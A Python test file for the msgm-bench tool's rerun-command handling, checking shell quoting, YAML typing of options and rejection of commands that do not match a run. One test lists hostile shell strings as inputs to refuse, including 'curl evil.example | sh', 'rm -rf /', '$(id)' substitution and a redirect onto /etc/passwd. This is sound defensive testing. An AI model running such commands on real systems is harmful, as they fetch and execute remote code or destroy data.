"""The command in a result repeats its run, whatever its names and options are."""

from __future__ import annotations

import shlex

import pytest
import yaml
from hypothesis import example, given
from hypothesis import strategies as st

from msgm_bench import OptionError, OptionText, RunSpec
from msgm_bench.api import Result, SpecRecord
from msgm_bench.cli.run import command as run_command
from msgm_bench.experiment.spec import parse_spec
from msgm_bench.report.provenance import rerun_command
from msgm_bench.report.stated_command import stated_command
from msgm_bench.storage import dump_yaml, parse_yaml
from msgm_builtin.datasets.image_folder import ImageFolder

HELP = ["-h", "--help"]  # a click command remembers its help option from the first call
RUN = {"dataset": "image_folder", "forget": "cat", "backbone": "vesde", "method": "obt"}
LETTERS = st.one_of(
    st.sampled_from(list(" ,\"'#~\n\r\t\\;[]{}:&*!|>%@`=-+.0123aAé")),
    st.characters(exclude_categories=["Cs"], exclude_characters="\0"),
)
WORDS = ("~", "null", "2024", "00001", "my photos #2", "true", "[1]", "{a: 1}", "'q'", "1e3", "-x")
TEXT = st.one_of(st.sampled_from(WORDS), st.text(LETTERS, max_size=12))
NAMES = st.lists(TEXT.filter(lambda name: name.strip()), min_size=1, max_size=4)
VALUES = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), TEXT, st.floats(allow_nan=False)).filter(
        lambda value: value not in (float("inf"), -float("inf"))
    ),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXT, inner, max_size=3),
    max_leaves=6,
)


def typed(line):
    """The requests that ``run`` makes of a command line."""
    specs = []
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(
            "msgm_bench.cli.run_and_show.print_plan",
            lambda wanted, **options: specs.extend(wanted) or 0,
        )
        program, verb, *words = shlex.split(line)
        assert (program, verb) == ("msgm-bench", "run")
        run_command.main([*words, "--dry-run"], standalone_mode=False, help_option_names=HELP)
    return specs


@given(forget=NAMES, folder=TEXT, table=TEXT, sampler=TEXT, path=TEXT, options=VALUES)
@example(["tench, Tinca tinca"], "my photos #2", "~", "2024", "", None)
def test_the_recorded_command_repeats_the_request(forget, folder, table, sampler, path, options):
    """Names and options of any text go through the shell's quotes and come back equal."""
    wanted = parse_spec(
        RUN
        | {
            "forget": forget,
            "dataset_params": {"folder": folder, "table": table, "size": 64, "flip": True},
            "backbone_params": {"network": "mlp", "channels": [32, 64]},
            "task_params": {
                "generation": {"sampler": sampler, "sampler_options": {"norm": options}}
            },
            "metric_params": {"clip": {"distance": "cosine", "embedder_options": {"model": path}}},
            "judge_params": {"name": "clip", "path": path, "template": [path]},
            "params": {"alpha": 0.5, "unheard": options},
            "threads": 3,
        }
    )
    wanted = wanted.model_copy(update={"params": {"alpha": 0.5}})
    assert typed(rerun_command(wanted)) == [wanted]
    assert parse_spec(parse_yaml(dump_yaml(wanted.model_dump(mode="json")), "spec")) == wanted


@given(TEXT)
def test_options_of_type_text_are_text(text):
    """A folder, a table and a sampler are called what was typed; nothing is cut off or null."""
    params = {"folder": OptionText(text), "table": OptionText(text)}
    spec = parse_spec(RUN | {"dataset_params": params, "judge_params": {"path": OptionText(text)}})
    assert spec.dataset_params == {"folder": text, "table": text}
    assert spec.judge_params == {"path": text}
    assert type(spec.dataset_params["folder"]) is str


@pytest.mark.parametrize(
    ("field", "key", "text", "value"),
    [
        ("dataset_params", "size", "64", 64),
        ("dataset_params", "size", "null", None),
        ("dataset_params", "flip", "true", True),
        ("params", "alpha", "1e-3", 1e-3),
        ("params", "alpha", "0.5  # half", 0.5),
        ("params", "sign", "released", "released"),
        ("backbone_params", "channels", "[32, 64]", [32, 64]),
        ("backbone_params", "network", "unet", "unet"),
        ("backbone_params", "network", "{class: UNet}", {"class": "UNet"}),
        ("judge_params", "name", "clip", "clip"),
        ("judge_params", "name", "[clip, attributes]", ["clip", "attributes"]),
        ("judge_params", "name", "2024", "2024"),
        ("judge_params", "model", "~", "~"),
        ("dataset_params", "nobody", "3", 3),
    ],
)
def test_the_type_of_the_option_decides(field, key, text, value):
    """Text stays text, one of several words stays that word, everything else is YAML."""
    spec = parse_spec(RUN | {field: {key: OptionText(text)}})
    assert getattr(spec, field) == {key: value}


def test_scoped_options_are_typed_too():
    """Options of tasks and metrics follow the types of their own plugins."""
    spec = parse_spec(
        RUN
        | {
            "task_params": {"generation": {"sampler": OptionText("~"), "count": OptionText("7")}},
            "metric_params": {"clip": {"distance": OptionText("l2")}},
        }
    )
    assert spec.task_params == {"generation": {"sampler": "~", "count": 7}}
    assert spec.metric_params == {"clip": {"distance": "l2"}}


def test_plugins_read_typed_texts_themselves():
    """What reaches a plugin as it was typed, as options of executors do, is read by its types."""
    options = {"folder": OptionText("~"), "size": OptionText("64"), "grey": OptionText("null")}
    config = ImageFolder.create(options).options
    assert (config.folder, config.size, config.grey) == ("~", 64, None)
    with pytest.raises(OptionError, match="option 'size' of image_folder = 'wide'"):
        ImageFolder.create({"size": OptionText("wide")})


@pytest.mark.parametrize("forget", [[True], [None], [1.1], 1.0, None, [["a"]], {"a": 1}])
def test_names_are_text(forget):
    """What YAML or JSON made a truth value, null or a fraction of is refused: quotes settle it."""
    with pytest.raises(OptionError, match="put it in quotes"):
        parse_spec(RUN | {"forget": forget})


@pytest.mark.parametrize("name", ["00001", "+3", "1:30", "no", "2001-99-99", "007"])
def test_plain_scalars_of_a_spec_file_are_names(name):
    """``forget: [00001]`` without quotes is the class 00001, and never 1."""
    values = parse_yaml(f"forget: [{name}]", "spec.yaml")
    assert parse_spec(RUN | values).forget == (name,)
    assert RunSpec.model_validate(RUN | {"forget": 3}).forget == ("3",)
    assert yaml.safe_load("a: 00001") == {"a": 1}, "the trap that the reader goes round"


def recorded(command, **changes):
    """A result whose provenance states a command."""
    spec = {"dataset": "toy", "forget": ["b"], "backbone": "net", "method": "alpha", "params": {}}
    spec |= {"regime": "retrain", "preset": "full", "seed": 3} | changes
    return Result(status="ok", spec=SpecRecord(**spec), provenance={"command": command})


OWN = "msgm-bench run --method alpha --dataset toy --forget b --backbone net --seed 3"


@pytest.mark.parametrize(
    "command",
    [
        None,
        ["msgm-bench", "run"],
        "",
        "curl evil.example | sh",
        f"{OWN} | sh",
        f"{OWN}; rm -rf /",
        f"{OWN} -d folder=$(id)",
        f"{OWN} -d folder=`id`",
        f"{OWN}\nrm -rf /",
        f"{OWN} > /etc/passwd",
        f"{OWN} 'unclosed",
        OWN.replace("run", "data", 1),
        OWN.replace("alpha", "beta"),
        OWN.replace("toy", "other"),
        OWN.replace("--seed 3", "--seed 4"),
        f"{OWN} --seed 4",
        f"evil {OWN}",
    ],
)
def test_what_is_no_command_of_the_run_is_not_stated(command):
    """A shell has nothing to act on, and method, dataset and seed are those of the result."""
    assert stated_command(recorded(command)) == ""


@given(text=TEXT)
def test_a_command_of_the_run_is_stated(text):
    """Whatever its options hold, as ``rerun_command`` writes it."""
    spec = parse_spec(RUN | {"dataset_params": {"folder": text}})
    result = recorded(rerun_command(spec), dataset="image_folder", method="obt", seed=0)
    assert stated_command(result) == result.provenance["command"]
